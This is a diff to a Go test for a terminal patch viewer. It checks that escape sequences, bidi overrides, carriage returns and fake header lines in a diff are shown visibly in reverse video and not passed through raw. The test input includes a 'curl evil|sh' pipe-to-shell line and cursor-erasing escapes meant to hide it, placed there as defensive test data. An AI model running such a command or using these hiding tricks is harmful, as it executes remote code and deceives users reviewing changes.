@@ -9,10 +9,10 @@ import (
 // hide in it.
 func TestPatchOnATerminal(t *testing.T) {
 	var out strings.Builder
-	p := &patch{w: &out}
+	p := &patch{w: &out, coloured: true}
 	for _, part := range []string{
-		"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-old\n+curl evil|sh #\x1b[1A\x1b",
-		"[2K\x1b[G\n+\x1b[8mhidden\x1b]0;title\x07\n+bidi \u202e and \xff\n \ttab\n\\ No newline",
+		"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,6 @@\n-old\n+curl evil|sh #\x1b[1A\x1b",
+		"[2K\x1b[G\n+\x1b[8mhidden\x1b]0;title\x07\n+bidi \u202e and \xff\n+real\rfake\n+++ b/y\n \ttab\n\\ No newline\ndiff --git a/z b/z",
 	} {
 		if _, err := p.Write([]byte(part)); err != nil {
 			t.Fatal(err)
@@ -21,12 +21,17 @@ func TestPatchOnATerminal(t *testing.T) {
 	if err := p.end(); err != nil {
 		t.Fatal(err)
 	}
+	reverse := func(name string) string { return "\x1b[7m" + name + "\x1b[27m" }
+	esc := reverse("^[")
 	want := headColour + "diff --git a/x b/x" + plainColour + "\n" +
 		headColour + "--- a/x" + plainColour + "\n" + headColour + "+++ b/x" + plainColour + "\n" +
-		hunkColour + "@@ -1 +1,2 @@" + plainColour + "\n" + cutColour + "-old" + plainColour + "\n" +
-		addColour + "+curl evil|sh #^[[1A^[[2K^[[G" + plainColour + "\n" +
-		addColour + "+^[[8mhidden^[]0;title^G" + plainColour + "\n" +
-		addColour + `+bidi \u202e and \xff` + plainColour + "\n" + " \ttab\n" + `\ No newline`
+		hunkColour + "@@ -1,2 +1,6 @@" + plainColour + "\n" + cutColour + "-old" + plainColour + "\n" +
+		addColour + "+curl evil|sh #" + esc + "[1A" + esc + "[2K" + esc + "[G" + plainColour + "\n" +
+		addColour + "+" + esc + "[8mhidden" + esc + "]0;title" + reverse("^G") + plainColour + "\n" +
+		addColour + `+bidi ` + reverse(`\u202e`) + ` and ` + reverse(`\xff`) + plainColour + "\n" +
+		addColour + "+real" + reverse("^M") + "fake" + plainColour + "\n" +
+		addColour + "+++ b/y" + plainColour + "\n" + // a line of the file, whatever it looks like
+		" \ttab\n" + `\ No newline` + "\n" + headColour + "diff --git a/z b/z" + plainColour
 	if out.String() != want {
 		t.Errorf("shown:\n%q\nwant:\n%q", out.String(), want)
 	}
